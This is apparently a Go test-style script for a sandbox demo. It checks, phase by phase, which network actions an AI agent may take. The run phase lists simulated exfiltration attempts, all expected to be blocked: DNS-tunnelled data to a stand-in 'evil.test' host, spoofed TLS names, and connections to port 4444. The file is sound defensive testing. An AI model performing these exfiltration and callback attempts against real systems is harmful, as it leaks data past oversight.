//go:build linux

package main

import "strings"

// phasesDocument is what the sandbox of the demo is started with.
const phasesDocument = `{
  "baseline": "no-network",
  "phases": {
    "setup": "public",
    "run": {"network_mode": "allowlist", "allowed_hosts": ["api.test:443", "*.alias.test", "ssh.test:22"]},
    "evaluation": "no-network"
  }
}
`

// act is one thing that the agent tries, and what must come of it.
type act struct {
	what string // for people
	step step
	want string // what the outcome begins with
}

// holds says whether the outcome is the expected one.
func (a act) holds(o outcome) bool { return strings.HasPrefix(o.Result, a.want) }

// chapter is one phase of the demo.
type chapter struct {
	phase, title string
	acts         []act
}

// script is the demo. Its download is started in the first phase and must be cut
// by the swap to the second.
func script() []chapter {
	return []chapter{
		{"setup", "set-up: everything is open, and logged", []act{
			{"GET https://pypi.test/", step{Do: "get", Target: "https://pypi.test/"}, "200"},
			{"GET http://registry.test/", step{Do: "get", Target: "http://registry.test/"}, "200"},
			{"greeting of ssh.test:22", step{Do: "tcp", Target: "ssh.test:22"}, "greeted: SSH-2.0"},
			{"start to download https://files.test/endless", step{Do: "download", Target: "https://files.test/endless"}, "running"},
		}},
		{"run", "the agent's run: one API, one mirror, one git host", []act{
			{"GET https://api.test/", step{Do: "get", Target: "https://api.test/"}, "200"},
			{"GET https://www.alias.test/ (a wildcard, by CNAME)", step{Do: "get", Target: "https://www.alias.test/"}, "200"},
			{"greeting of ssh.test:22", step{Do: "tcp", Target: "ssh.test:22"}, "greeted: SSH-2.0"},
			{"GET https://evil.test/", step{Do: "get", Target: "https://evil.test/"}, "no such name"},
			{"smuggle data in a DNS question", step{Do: "resolve", Target: "c2VjcmV0.evil.test"}, "NXDOMAIN"},
			{"GET https://evil.test/ at its known address", step{Do: "get", Target: "https://evil.test/", At: "203.0.113.66:443"}, "TLS alert: unrecognized name"},
			{"GET http://203.0.113.66/", step{Do: "get", Target: "http://203.0.113.66/"}, "403"},
			{"TLS to evil's address under the name api.test", step{Do: "get", Target: "https://api.test/", At: "203.0.113.66:443"}, "200"},
			{"connect to 203.0.113.66:4444", step{Do: "tcp", Target: "203.0.113.66:4444"}, "refused"},
			{"connect to [2001:db8::66]:4444", step{Do: "tcp", Target: "[2001:db8::66]:4444"}, "refused"},
			{"UDP to 203.0.113.66:4444", step{Do: "udp", Target: "203.0.113.66:4444"}, "not permitted"},
		}},
		{"evaluation", "evaluation: nothing leaves", []act{
			{"GET https://api.test/", step{Do: "get", Target: "https://api.test/"}, "no such name"},
			{"TLS to api.test at its known address", step{Do: "get", Target: "https://api.test/", At: "203.0.113.12:443"}, "TLS alert: access denied"},
			{"resolve api.test", step{Do: "resolve", Target: "api.test"}, "NXDOMAIN"},
		}},
	}
}
